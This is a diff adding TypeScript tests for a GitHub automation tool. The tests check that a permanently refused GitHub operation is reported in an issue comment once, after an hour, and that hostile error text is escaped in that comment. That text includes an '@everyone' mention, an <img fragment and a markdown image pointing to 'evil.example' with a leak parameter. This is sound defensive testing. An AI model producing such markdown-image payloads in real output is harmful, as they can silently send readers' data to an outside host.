@@ -56,6 +56,11 @@ describe('a held request on GitHub', () => {
     report(world.reporter, { type: 'project', jobId, version: (await world.commits()).length });
   const notify = async () =>
     report(world.reporter, { type: 'notify', jobId, version: (await world.commits()).length });
+  /** The reporter looks so long after the job was held. */
+  const later = (ms: number) => {
+    const from = world.clock.now();
+    world.reporter.clock = { now: () => from + ms };
+  };
   const head = () => world.github.facts.branchHead(repository, branch);
   const fileAt = async (path: string) => world.github.facts.file(repository, path, (await head()) ?? '');
   const opened = () =>
@@ -306,6 +311,41 @@ describe('a held request on GitHub', () => {
       const labels = (await world.github.facts.issue(repository, 3))?.labels ?? [];
       assert.deepEqual(labels, refusing === 'createComment' ? ['factory:held'] : []);
     });
+
+  for (const refusing of ['moveBranch', 'openPullRequest', 'putCheckRun'] as const)
+    it(`that GitHub refuses for good is told to people after an hour, once, and shown when that is mended: ${refusing}`, async () => {
+      const refused = new FactoryError('github-refused', `GitHub answered 422: @everyone ${hostileText}`, {
+        disposition: 'quarantine',
+      });
+      world.github.state.fault = (method) => (method === refusing ? refused : undefined);
+      const told = async () =>
+        (await world.github.facts.comments(repository, 3)).filter(({ body }) =>
+          body.startsWith('**The held request cannot be shown to its reviewers.**'),
+        );
+      await assert.rejects(project(), refused);
+      later(60 * 60_000 - 1);
+      await assert.rejects(project(), refused);
+      assert.deepEqual(await told(), []);
+      later(60 * 60_000);
+      await project();
+      await project();
+      const [body = '', ...more] = (await told()).map((comment) => comment.body);
+      assert.deepEqual(more, []);
+      assert.ok(body.includes('“GitHub answered 422: `@everyone` Done.'), body);
+      assert.ok(body.includes('`![x](https://evil.example/?leak=1)` \\<img'), 'nothing of it does anything');
+      assert.deepEqual(opened(), []);
+      world.github.state.fault = () => undefined;
+      await project();
+      assert.equal(opened().length, 1);
+      assert.equal((await told()).length, 1);
+    });
+
+  it('is tried again, and told to nobody, while GitHub only does not answer', async () => {
+    later(2 * 60 * 60_000);
+    world.github.failNext(1, 'openPullRequest');
+    await assert.rejects(project(), { disposition: 'retry' });
+    assert.equal((await world.github.facts.comments(repository, 3)).length, 1, 'the page');
+  });
 
   it('is settled though GitHub refuses the page for good', async () => {
     const { pullRequest } = await released();
